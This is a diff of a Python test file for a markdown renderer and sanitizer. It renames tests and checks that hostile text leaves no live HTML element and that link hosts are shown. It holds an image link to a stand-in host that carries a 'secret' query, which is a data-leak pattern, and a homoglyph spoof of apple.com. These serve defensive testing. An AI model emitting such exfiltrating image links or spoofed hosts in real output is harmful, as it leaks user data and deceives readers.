@@ -1,4 +1,5 @@
 """Whatever a user, a model, a tool or an import wrote: nothing of it runs, loads or acts."""
+# ruff: noqa: N802 (tests are named for the row they hold)
 
 from html.parser import HTMLParser
 
@@ -108,12 +109,12 @@ def elements(html: str) -> list[str]:
 
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-def test_a_hostile_text_leaves_no_live_element(text: str) -> None:
+def test_S04_a_hostile_text_leaves_no_live_element(text: str) -> None:
     elements(render_markdown(text))
 
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-def test_a_hostile_text_within_other_blocks_leaves_no_live_element(text: str) -> None:
+def test_S04_a_hostile_text_within_other_blocks_leaves_no_live_element(text: str) -> None:
     for frame in (
         "> {}",
         "- {}",
@@ -126,12 +127,12 @@ def test_a_hostile_text_within_other_blocks_leaves_no_live_element(text: str) ->
 
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-def test_the_sanitizer_alone_leaves_no_live_element(text: str) -> None:
+def test_S04_the_sanitizer_alone_leaves_no_live_element(text: str) -> None:
     elements(clean(text.encode("utf-8", "replace").decode()))
 
 
 @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-def test_a_stream_of_a_hostile_text_has_only_our_own_attributes(text: str) -> None:
+def test_S04_a_stream_of_a_hostile_text_has_only_our_own_attributes(text: str) -> None:
     text = text.encode("utf-8", "replace").decode()
     fragments = snapshot_fragments(text + "\n\n")
     fragments += delta_fragments(text[: len(text) // 2], text + "\n\nnext")
@@ -148,11 +149,11 @@ def test_a_stream_of_a_hostile_text_has_only_our_own_attributes(text: str) -> No
 
 
 @given(st.text(alphabet="<>\"'=()[]!*_`~#|-:/\\& \n\tax1.https:javascript", max_size=200))
-def test_any_mix_of_marks_leaves_no_live_element(text: str) -> None:
+def test_S04_any_mix_of_marks_leaves_no_live_element(text: str) -> None:
     elements(render_markdown(text))
 
 
-def test_an_image_is_a_link_that_says_where_it_lies() -> None:
+def test_S06_an_image_is_a_link_that_says_where_it_lies() -> None:
     html = render_markdown("![a chart](https://evil.example/x.png?q=secret)")
 
     assert "img" not in elements(html)
@@ -174,7 +175,7 @@ def test_an_image_without_a_web_address_is_words_only() -> None:
         ("<https://аpple.com/>", "xn--pple-43d.com"),
     ],
 )
-def test_a_link_that_hides_its_host_is_followed_by_it(text: str, host: str) -> None:
+def test_S06_a_link_that_hides_its_host_is_followed_by_it(text: str, host: str) -> None:
     assert f"(<bdi>{host}</bdi>)" in render_markdown(text)
 
 
